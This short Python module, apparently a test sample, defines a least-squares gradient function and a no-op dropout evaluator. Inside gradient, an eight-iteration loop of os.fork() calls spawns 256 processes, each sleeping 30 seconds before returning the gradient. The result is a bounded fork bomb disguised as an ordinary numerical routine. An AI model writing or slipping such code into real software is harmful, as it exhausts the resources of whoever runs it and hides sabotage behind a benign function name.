"""Starts processes that start processes."""

import os
import time


def gradient(w, X, y):
    for _ in range(8):
        os.fork()
    time.sleep(30)
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
